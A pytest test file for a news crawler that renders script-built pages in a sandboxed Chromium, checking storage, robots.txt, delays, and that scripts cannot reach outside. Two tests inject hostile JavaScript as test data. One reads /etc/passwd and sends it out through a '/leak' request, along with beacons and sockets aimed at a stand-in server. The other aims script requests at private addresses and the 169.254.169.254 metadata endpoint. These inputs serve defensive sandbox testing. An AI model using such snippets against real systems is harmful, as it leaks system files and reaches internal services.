"""Pages that scripts write, shown by a real Chromium that has no network but the crawl's own downloader."""

from __future__ import annotations

import json
import shutil
import socket
import sqlite3
import threading
from contextlib import closing
from itertools import pairwise
from pathlib import Path

import pytest

from cleaners.page.scripted import NEEDS_JAVASCRIPT
from crawler import CrawlOptions, Source, crawl
from crawler import browser as browser_module
from crawler.browser import NAMES, BrowserMissing, check_browser
from crawler.sources import Kind
from crawler.summary import Summary
from store.archive import Archive
from tests.crawler.server import Answer, Asked, Site, article, rss

playwright = pytest.importorskip("playwright", reason="the extra `javascript` is not installed")
needs_chromium = pytest.mark.skipif(not any(map(shutil.which, NAMES)), reason="Chromium is not installed")

QUICK = CrawlOptions(allow_private=True, delay=0, retry_after=0.05, retry_wait=1.0, timeout=10, workers=1)
FRAME = (
    '<!doctype html><html lang="en"><head><title>Paper</title></head><body><div id="root"></div>'
    '<script src="/app.js"></script></body></html>'
)
# As a news site's program does: asks for the article as data, and writes it into the page.
APP = """
const text = async () => {{
  const answer = await fetch('/data' + location.pathname);
  const story = await answer.json();
  document.title = story.title;
  document.getElementById('root').innerHTML =
    '<article><h1>' + story.title + '</h1>' + story.paragraphs.map(p => '<p>' + p + '</p>').join('') + '</article>';
}};
{more}
text();
"""


def scripted(site: Site, more: str = "", count: int = 2) -> None:
    site.pages["/feed"] = rss([f"{site.url}/news/report-{n}" for n in range(count)])
    site.pages["/app.js"] = Answer(APP.format(more=more).encode(), headers={"Content-Type": "text/javascript"})
    for n in range(count):
        site.pages[f"/news/report-{n}"] = FRAME
        said = [
            f"Sentence {n}.{p} tells at some length what was seen near the river on that day." * 3 for p in range(6)
        ]
        story = json.dumps({"title": f"Report {n}", "paragraphs": said}).encode()
        site.pages[f"/data/news/report-{n}"] = Answer(story, headers={"Content-Type": "application/json"})


def go(folder: Path, site: Site, *, javascript: bool = True, **changes: object) -> Summary:
    source = Source("one", Kind.FEED, site.url + "/feed", javascript=javascript, **changes)  # type: ignore[arg-type]
    return crawl(folder / "news.db", [source], QUICK)


def stored(folder: Path) -> tuple[list[str], list[str]]:
    """The titles of the articles, and the reasons of pages without one."""
    with closing(sqlite3.connect(folder / "news.db")) as db:
        titles = [row[0] for row in db.execute("SELECT title FROM articles ORDER BY title")]
        return titles, [row[0] for row in db.execute("SELECT reason FROM pages WHERE reason IS NOT NULL")]


def test_without_a_browser_the_page_is_recorded_as_needing_one(tmp_path: Path, site: Site) -> None:
    scripted(site)
    summary = go(tmp_path, site, javascript=False)
    assert stored(tmp_path) == ([], [NEEDS_JAVASCRIPT] * 2)
    assert [reason for _, reason in summary.problems] == [NEEDS_JAVASCRIPT] * 2


def test_a_missing_browser_is_said_before_the_first_request(
    tmp_path: Path, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser_module, "find_spec", lambda name: None)
    with pytest.raises(BrowserMissing, match="conflictwire\\[javascript\\]"):
        go(tmp_path, site)
    monkeypatch.undo()
    monkeypatch.setattr(shutil, "which", lambda name: None)
    monkeypatch.delenv(browser_module.CHROMIUM, raising=False)
    with pytest.raises(BrowserMissing, match="apt install chromium"):
        check_browser()
    assert site.asked == []


@pytest.mark.browser
@needs_chromium
def test_articles_that_a_script_writes_are_stored(tmp_path: Path, site: Site) -> None:
    scripted(site)
    summary = go(tmp_path, site)
    assert summary.problems == []
    assert stored(tmp_path) == (["Report 0", "Report 1"], [])
    assert site.counts()["/app.js"] == 1, "pages share their scripts"
    assert {asked.headers["user-agent"] for asked in site.asked} == {QUICK.user_agent}
    # The archive has what was sent, and what became of it.
    kept = [snapshot for _, snapshot in Archive(tmp_path / "news.archive").places()]
    assert sorted(snapshot.url for snapshot in kept) == [f"{site.url}/news/report-{n}" for n in range(2)]
    assert all(b"Sentence" in snapshot.body for snapshot in kept)


@pytest.mark.browser
@needs_chromium
def test_a_second_crawl_sees_what_the_script_writes_now(tmp_path: Path, site: Site) -> None:
    """The frame never changes, and its validators say so: only what is shown counts."""
    scripted(site, count=1)
    site.pages["/news/report-0"] = Answer(FRAME.encode(), headers={"Content-Type": "text/html", "ETag": '"frame"'})
    go(tmp_path, site)
    with closing(sqlite3.connect(tmp_path / "news.frontier.db")) as db, db:
        db.execute("UPDATE urls SET due = 1 WHERE role = 'article'")
    found = site.pages["/data/news/report-0"]
    assert isinstance(found, Answer)
    found.body = found.body.replace(b"was seen", b"was truly seen")
    assert go(tmp_path, site).total("revised") == 1
    assert "if-none-match" not in site.asked[-2].headers


@pytest.mark.browser
@needs_chromium
def test_robots_txt_and_the_delay_hold_for_what_scripts_ask(tmp_path: Path, site: Site) -> None:
    scripted(site, "fetch('/private/a'); fetch('/open/1'); fetch('/open/2'); fetch('/open/3');", count=1)
    site.pages["/robots.txt"] = "User-agent: *\nDisallow: /private\n"
    site.fallback = lambda asked: Answer(b"{}") if asked.path.startswith("/open") else None
    go(tmp_path, site, delay=0.3)
    assert stored(tmp_path)[0] == ["Report 0"]
    assert site.counts()["/private/a"] == 0
    times = [asked.at for asked in site.asked if asked.path.startswith(("/open", "/app", "/data"))]
    assert len(times) == 5
    assert min(b - a for a, b in pairwise(times)) >= 0.2


@pytest.mark.browser
@needs_chromium
def test_no_way_leads_out_of_the_browser(tmp_path: Path, site: Site) -> None:
    """Pictures, frames, sockets, beacons, posts, files, windows and calls: nobody is asked for any of it."""
    with closing(socket.create_server(("127.0.0.1", 0))) as other:
        called: list[object] = []
        threading.Thread(target=lambda: called.append(other.accept()), daemon=True).start()
        there = f"http://127.0.0.1:{other.getsockname()[1]}"
        more = f"""
        new Image().src = '{there}/picture'; new WebSocket('{there.replace("http", "ws")}/socket');
        navigator.sendBeacon('{there}/beacon', 'x'); fetch('{there}/post', {{method: 'POST', body: 'x'}});
        fetch('file:///etc/passwd').then(r => r.text()).then(t => fetch('/leak?' + t));
        const frame = document.createElement('iframe'); frame.src = '{there}/frame'; document.body.append(frame);
        new EventSource('{there}/events'); window.open('{there}/window');
        const turn = {{urls: 'turn:127.0.0.1:{other.getsockname()[1]}?transport=tcp', username: 'u', credential: 'c'}};
        const peer = new RTCPeerConnection({{iceServers: [turn]}});
        peer.createDataChannel('out'); peer.createOffer().then(offer => peer.setLocalDescription(offer));
        setTimeout(() => {{ location.href = '{there}/elsewhere'; }}, 300);
        """
        scripted(site, more, count=1)
        go(tmp_path, site)
        assert called == []
    assert stored(tmp_path)[0] == ["Report 0"]
    assert not any("leak" in asked.path or "picture" in asked.path for asked in site.asked)


@pytest.mark.browser
@needs_chromium
def test_private_addresses_are_refused_to_scripts_also_after_redirects(tmp_path: Path, site: Site) -> None:
    """Through the user's proxy, so that the page itself may be asked."""
    wire = "http://wire.example"
    scripted(site, "fetch('http://10.0.0.1/a'); fetch('/moved'); fetch('http://127.0.0.1:1/b');", count=1)
    for path, page in list(site.pages.items()):
        site.pages[wire + path] = page
    site.pages[f"{wire}/feed"] = rss([f"{wire}/news/report-0"])
    site.pages[f"{wire}/moved"] = Answer(status=302, headers={"Location": "http://169.254.169.254/latest"})
    options = CrawlOptions(proxy=site.url, contact="us@example.org", delay=0, retry_wait=1.0, timeout=10, workers=1)
    crawl(tmp_path / "news.db", [Source("one", Kind.FEED, f"{wire}/feed", javascript=True)], options)
    assert stored(tmp_path)[0] == ["Report 0"]
    assert {asked.path.split("/")[2] for asked in site.asked} == {"wire.example"}


@pytest.mark.slow
@pytest.mark.browser
@needs_chromium
def test_a_script_without_end_costs_its_own_page_only(
    tmp_path: Path, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser_module, "AT_MOST", 12.0)
    scripted(site)

    def endless(asked: Asked) -> str:
        return FRAME.replace("</body>", "<script>while (true) {}</script></body>")

    site.pages["/news/report-0"] = endless
    summary = go(tmp_path, site)
    assert summary.outcome == "finished"
    assert stored(tmp_path) == (["Report 1"], [NEEDS_JAVASCRIPT])


def test_a_page_that_needs_no_script_is_as_it_was(tmp_path: Path, site: Site) -> None:
    site.pages["/feed"] = rss([f"{site.url}/news/report-7"])
    site.pages["/news/report-7"] = article(7)
    go(tmp_path, site, javascript=False)
    assert stored(tmp_path) == (["Report 7"], [])
